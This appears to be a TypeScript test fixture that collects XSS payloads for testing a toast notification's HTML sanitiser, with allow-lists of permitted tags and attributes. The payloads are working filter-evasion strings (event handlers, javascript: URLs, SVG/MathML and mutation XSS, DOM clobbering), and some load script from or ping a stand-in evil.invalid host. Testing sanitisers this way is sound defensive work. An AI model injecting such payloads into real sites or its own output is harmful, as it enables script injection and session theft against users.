/**
 * XSS payloads fed through the toast's HTML sanitiser (unit: happy-dom; e2e: the real toast in
 * Chromium). Every payload, if it ever ran, would call `__xss()`; the tests count those calls and
 * also inspect the rendered markup for anything that could run later (handlers, scripts, unsafe
 * URLs, foreign namespaces). Ideas from DOMPurify's own fixtures and the OWASP filter-evasion
 * cheat sheet: script tags, event handlers, javascript:/data:/vbscript: URLs, SVG and MathML
 * tricks, mutation XSS (noscript, style, template, namespace confusion), DOM clobbering.
 */
const X = '__xss()';

const handlerTags = [
  `<img src=x onerror="${X}">`,
  `<img src="x" onerror=${X}>`,
  `<IMG SRC=x OnErRoR=${X}>`,
  `<img src=x onerror=&#95;&#95;xss()>`,
  `<img/src/onerror=${X}>`,
  `<img src=x:x onerror=${X}//`,
  `<body onload=${X}>`,
  `<svg onload=${X}>`,
  `<svg/onload=${X}>`,
  `<iframe onload=${X}></iframe>`,
  `<input autofocus onfocus=${X}>`,
  `<select autofocus onfocus=${X}></select>`,
  `<textarea autofocus onfocus=${X}></textarea>`,
  `<keygen autofocus onfocus=${X}>`,
  `<video><source onerror=${X}></video>`,
  `<audio src=x onerror=${X}>`,
  `<details open ontoggle=${X}>`,
  `<marquee onstart=${X}>x</marquee>`,
  `<div onmouseover=${X}>hover</div>`,
  `<span onclick=${X}>click</span>`,
  `<b onmouseenter=${X}>bold</b>`,
  `<a href="https://example.com" onclick=${X}>link</a>`,
  `<strong onpointerover=${X}>x</strong>`,
  `<em style="animation-name:x" onanimationstart=${X}>x</em>`,
  `<i tabindex=1 autofocus onfocusin=${X}>x</i>`,
  `<br onload=${X}>`,
  `<object data=x onerror=${X}></object>`,
  `<embed src=x onerror=${X}>`,
  `<form><button formaction=javascript:${X}>x</button></form>`,
  `<isindex type=image src=1 onerror=${X}>`,
  `<table background=x onerror=${X}></table>`,
  `<xss onbeforescriptexecute=${X}>`,
  `<img src=x onerror\u000b=${X}>`,
  `<img src=x onerror\u00a0=${X}>`,
  `<img src=x """><script>${X}</script>">`,
];

const scripts = [
  `<script>${X}</script>`,
  `<SCRIPT>${X}</SCRIPT>`,
  `<script src="data:text/javascript,${X}"></script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>${X};//<</script>`,
  `<script\x20type="text/javascript">${X}</script>`,
  `<script/x>${X}</script>`,
  `"><script>${X}</script>`,
  `'><script>${X}</script>`,
  `</span><script>${X}</script>`,
  `<script>/*</script><script>*/${X}</script>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
  `<iframe src="javascript:parent.${X}"></iframe>`,
  `<frameset><frame src="javascript:${X}"></frameset>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<link rel=import href="data:text/html,<script>${X}</script>">`,
];

const urls = [
  `<a href="javascript:${X}">x</a>`,
  `<a href="JaVaScRiPt:${X}">x</a>`,
  `<a href=" javascript:${X}">x</a>`,
  `<a href="java&#x09;script:${X}">x</a>`,
  `<a href="java&#10;script:${X}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">x</a>`,
  `<a href="&#x6A;avascript:${X}">x</a>`,
  `<a href="javascript&colon;${X}">x</a>`,
  `<a href="data:text/html,<script>${X}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="http://example.com">plain http is not allowed</a>`,
  `<a href="//evil.invalid">protocol-relative</a>`,
  `<a href="/relative">relative</a>`,
  `<a href="https://example.com" target="_self">target is ours to set</a>`,
  `<a href="https://example.com" rel="opener">rel is ours to set</a>`,
  `<a href="mailto:x@example.com" onmouseover=${X}>mail</a>`,
  `<a xlink:href="javascript:${X}">x</a>`,
  `<a href="https://example.com" style="position:fixed;inset:0">overlay</a>`,
  `<a href="https://example.com" ping="https://evil.invalid">ping</a>`,
  `<img src="javascript:${X}">`,
  `<img src="data:image/svg+xml,<svg onload='${X}'>">`,
  `<form action="javascript:${X}"><input type=submit></form>`,
  `<button form=x formaction="javascript:${X}">x</button>`,
  `<area href="javascript:${X}">`,
];

const svgMath = [
  `<svg><script>${X}</script></svg>`,
  `<svg><script xlink:href="data:,${X}"></script></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${X}>`,
  `<svg><animate attributeName=href values=javascript:${X} /><a><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${X}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${X}'/></svg>#x"></use></svg>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<svg><title><img src=x onerror=${X}></title></svg>`,
  `<svg><desc><img src=x onerror=${X}></desc></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<math><mi xlink:href="javascript:${X}">x</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${X}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}></style></mglyph></table></mtext></math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${X}>"></style></h1></mtext></math>`,
  `<math><style><img src=x onerror=${X}></style></math>`,
  `<math href="javascript:${X}">click</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<svg><a><rect width=100% height=100% /><animate attributeName=href to=javascript:${X} /></a></svg>`,
];

const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${X}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${X}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${X}>"></xmp>`,
  `<listing>&lt;img src=x onerror=${X}&gt;</listing>`,
  `<template><img src=x onerror=${X}></template>`,
  `<style><img src=x onerror=${X}></style>`,
  `<style>@import 'javascript:${X}';</style>`,
  `<textarea><img title="</textarea><img src=x onerror=${X}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${X}>"></title>`,
  `<iframe><img title="</iframe><img src=x onerror=${X}>"></iframe>`,
  `<plaintext><img src=x onerror=${X}>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<!-- --!><img src=x onerror=${X}> -->`,
  `<![CDATA[><img src=x onerror=${X}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${X}>`,
  `<span title="&lt;img src=x onerror=${X}&gt;">entity in attribute</span>`,
  `<b>&lt;img src=x onerror=${X}&gt;</b>`,
  `<a href="https://example.com"><a href="javascript:${X}">nested</a></a>`,
  `<table><td><img src=x onerror=${X}></table>`,
  `<select><option><img src=x onerror=${X}></option></select>`,
  `<div id="x"><span><b><i><em><strong><img src=x onerror=${X}></strong></em></i></b></span></div>`,
];

const clobberingAndStyle = [
  `<img name="getElementById">`,
  `<form id="__xss"><input name="x"></form>`,
  `<a id="location" href="https://evil.invalid">clobber</a>`,
  `<span id="x" name="y" class="z">attributes beyond the allow-list</span>`,
  `<span style="background:url(javascript:${X})">style</span>`,
  `<span style="behavior:url(x.htc)">style</span>`,
  `<span data-x="y" aria-label="z">data and aria</span>`,
  `<link rel=stylesheet href="data:text/css,*{background:red}">`,
  `<div style="width:expression(${X})">ie</div>`,
  `<span is="x-evil">custom</span>`,
  `<x-evil onclick=${X}>custom element</x-evil>`,
  `<portal src="https://evil.invalid"></portal>`,
];

/** The corpus, each payload once. */
export const XSS_CORPUS: readonly string[] = Array.from(
  new Set([...handlerTags, ...scripts, ...urls, ...svgMath, ...mutation, ...clobberingAndStyle]),
);

/** Tags the sanitised toast may contain. */
export const ALLOWED_TOAST_TAGS = new Set(['B', 'I', 'EM', 'STRONG', 'A', 'BR', 'SPAN']);

/** Attributes the sanitised toast may contain, per tag (added by the link hook or allowed). */
export const ALLOWED_TOAST_ATTRS: Record<string, readonly string[]> = {
  A: ['href', 'target', 'rel'],
};
